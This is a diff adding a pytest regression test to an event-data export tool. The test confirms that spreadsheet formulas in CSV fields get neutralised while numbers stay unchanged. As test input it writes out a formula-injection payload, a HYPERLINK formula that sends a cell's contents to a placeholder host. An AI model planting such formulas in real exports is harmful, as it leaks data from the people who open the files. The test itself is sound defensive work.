@@ -250,3 +250,23 @@ def test_jsonl_round_trips(tmp_path, article, events):
         assert article.raw[start:end] == record["event_text"] == event.quote_nl
         assert record["event_scale"] == event.goldstein
         assert ("negation" in record["context"]) == (event.modality == "negated")
+
+
+def test_row10_exported_csv_neutralises_formulas_but_not_numbers(tmp_path, article):
+    """Issue 10 row 10: '=HYPERLINK(...)' in gloss_en went unchanged into events.csv."""
+    records = rows()
+    formula = '=HYPERLINK("https://example.invalid/?leak="&A1,"more")'
+    index = next(i for i, r in enumerate(records) if r["goldstein"] == "-5.0")
+    records[index].update(gloss_en=formula, coder_note="@SUM(1+1)")
+    events = load_events(write(tmp_path / "events.csv", records), article=article)
+    csv_path, jsonl_path = export_events(events, tmp_path / "out")
+    with open(csv_path, encoding="utf-8", newline="") as handle:
+        exported = list(csv.DictReader(handle))
+    row = exported[index]
+    assert row["gloss_en"] == "'" + formula and row["coder_note"] == "'@SUM(1+1)"
+    assert row["goldstein"] == "-5.0" and row["sign"] == "-1"  # numbers stay numbers
+    assert row["date_start"] == records[index]["date_start"]
+    untouched = [r for i, r in enumerate(exported) if i != index]
+    assert untouched == [r for i, r in enumerate(rows()) if i != index]
+    record = json.loads(jsonl_path.read_text(encoding="utf-8").splitlines()[index])
+    assert record["gloss_en"] == formula and record["comment"] == "@SUM(1+1)"  # JSONL: as coded
